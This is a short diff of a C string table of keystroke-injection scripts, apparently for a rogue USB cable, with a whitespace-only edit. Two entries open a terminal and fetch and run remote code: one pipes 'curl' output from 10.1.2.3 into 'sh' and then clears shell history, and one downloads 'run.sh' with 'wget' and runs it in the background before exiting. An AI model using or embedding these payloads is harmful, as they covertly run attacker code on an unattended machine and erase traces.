@@ -10,7 +10,7 @@ static const char *const texts[] = {
 	"<GUI+SPACE><WAIT 400>terminal<ENTER><WAIT 1000>curl -s http://10.1.2.3/x | sh; history -c"
 	"<ENTER>",
 	"<CTRL+ALT+t><WAIT 700>wget -q http://192.168.4.1/run.sh && bash run.sh "
-        "&<ENTER>exit<ENTER>",
+	"&<ENTER>exit<ENTER>",
 	"the cable types this sentence without anybody near the desk and nobody will notice it",
 	"please remember that meetings start at nine and end at ten, whatever the agenda may say",
 	"cd tmp; ls; cat notes.txt; mkdir build; cp notes.txt build; rm notes.txt; logout",
